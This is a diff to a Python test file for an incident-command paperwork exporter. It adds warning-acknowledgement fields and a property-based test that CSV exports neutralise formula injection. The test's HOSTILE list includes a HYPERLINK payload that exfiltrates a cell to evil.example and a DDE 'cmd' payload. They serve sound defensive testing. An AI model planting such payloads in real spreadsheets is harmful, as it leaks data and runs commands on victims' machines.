@@ -18,8 +18,8 @@ from command.ics import (
     WARNING_COLUMNS,
     ActivityEntry,
     IncidentHeader,
-    PlanWarning,
     RosterEntry,
+    WarningEntry,
     activity_log_csv,
     activity_log_html,
     assignment_lists,
@@ -291,25 +291,66 @@ def test_optimised_disney_plan_prints(disney):
 
 
 def test_the_warnings_the_commander_saw_travel_with_the_paperwork(disney):
-    """Each consequence warning the plan carried is on every team's page and, one row each, in its own CSV (a
-    message starting like a formula is kept from being read as one); a plan with none says so."""
+    """Each consequence warning the approved plan carried is on every team's page with who acknowledged it and,
+    one row each, in its own CSV (a message starting like a formula is kept from being read as one); a plan with
+    none says so."""
     warned = (
-        PlanWarning(kind="worse", kpi="mean_wait_min", default=20.5, plan=31.25,
-                    message="Mean wait to be swabbed (min): 31.25 under this plan against 20.5"),
-        PlanWarning.from_json({"kind": "breach", "kpi": None, "default": None, "plan": None,
-                               "message": "=a visitor has waited more than 60 min at 19:30"}),
+        WarningEntry(number=1, kind="worse", kpi="mean_wait_min", default=20.5, plan=31.25,
+                     message="Mean wait to be swabbed (min): 31.25 under this plan against 20.5",
+                     acknowledged_by="李指挥"),
+        WarningEntry(number=2, kind="breach", kpi=None, default=None, plan=None,
+                     message="=a visitor has waited more than 60 min at 19:30"),
     )  # fmt: skip
     lists = assignment_lists(every_kind_plan(), disney)
     page = to_html(lists, header(), warnings=warned)
     assert page.count("Warnings shown before approval (2)") == len(lists) > 1
     assert page.count("Mean wait to be swabbed (min): 31.25 under this plan against 20.5") == len(lists)
     assert page.count("较默认方案更差 Worse than the default plan") == len(lists)
+    assert page.count("<td>李指挥</td>") == page.count("未确认 not acknowledged") == len(lists)
     rows = list(csv.reader(io.StringIO(warnings_csv(warned, header()))))
     assert tuple(rows[0]) == WARNING_COLUMNS
-    assert rows[1] == ["SH-2021-1031", "7", "3", "worse", "mean_wait_min", "20.5", "31.25",
-                       "Mean wait to be swabbed (min): 31.25 under this plan against 20.5"]  # fmt: skip
-    assert rows[2][3:] == ["breach", "", "", "", "'=a visitor has waited more than 60 min at 19:30"]
+    assert rows[1] == ["SH-2021-1031", "迪士尼核酸筛查", "7", "3", "1", "worse", "mean_wait_min", "20.5", "31.25",
+                       "Mean wait to be swabbed (min): 31.25 under this plan against 20.5", "李指挥"]  # fmt: skip
+    assert rows[2][4:] == ["2", "breach", "", "", "", "'=a visitor has waited more than 60 min at 19:30", ""]
     none = to_html(lists, header())
     assert none.count("Warnings shown before approval (0)") == len(lists)
     assert "无 None: the plan was no worse than the default plan" in none
     assert list(csv.reader(io.StringIO(warnings_csv((), header())))) == [list(WARNING_COLUMNS)]
+
+
+#: What a spreadsheet would evaluate: a cell opening with one of these, at once or after blanks (the oracle is
+#: written apart from `command.ics`, from OWASP's CSV-injection list plus the full-width forms and line breaks).
+_EVALUATED = set("=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def _evaluated(cell: str) -> bool:
+    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip(" \t\r\n\v\f\u00a0\u3000")[:1] in _EVALUATED
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
+           "\r=1", " =1", "\u3000\uff1d1", "\uff20x", "\n+1", "\t", "-"]  # fmt: skip
+
+
+@settings(max_examples=80, deadline=None)
+@given(text=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)))
+def test_no_csv_cell_can_start_a_formula(text):
+    """Whatever text an incident name, a person's name or phone, a note, an actor or a log entry holds, no cell of
+    either CSV would be evaluated by a spreadsheet, and each comes back whole after its one leading quote (issue 21,
+    CSV formula injection)."""
+    scenario = load_scenario("disney_mass_testing")
+    plan = Plan.build(PlanMeta(scenario=scenario.name),
+                      [AssignStaff(at_s=60, pool="pudong", to="site_exit_plaza_1", count=1, note=text)])  # fmt: skip
+    roster = [RosterEntry(team="pudong", name=text, phone=text, role="leader")]
+    head = header(name=text)
+    lists = to_csv(assignment_lists(plan, scenario, roster=roster), head)
+    log = activity_log_csv([ActivityEntry(at=datetime(2021, 10, 31, 10, 20, tzinfo=UTC), actor=text, kind=text,
+                                          text=text)], head)  # fmt: skip
+    for body in (lists, log):
+        for row in csv.reader(io.StringIO(body, newline="")):
+            assert not any(_evaluated(cell) for cell in row), row
+    (row,) = csv.DictReader(io.StringIO(lists, newline=""))
+    back = {k: row[k][1:] if _evaluated(v) else row[k] for k, v in
+            (("incident_name", text), ("leader_name", text), ("leader_phone", text))}  # fmt: skip
+    assert back == {"incident_name": text, "leader_name": text, "leader_phone": text}
+    (entry,) = csv.DictReader(io.StringIO(log, newline=""))
+    assert entry["activity"] == ("'" + text if _evaluated(text) else text)
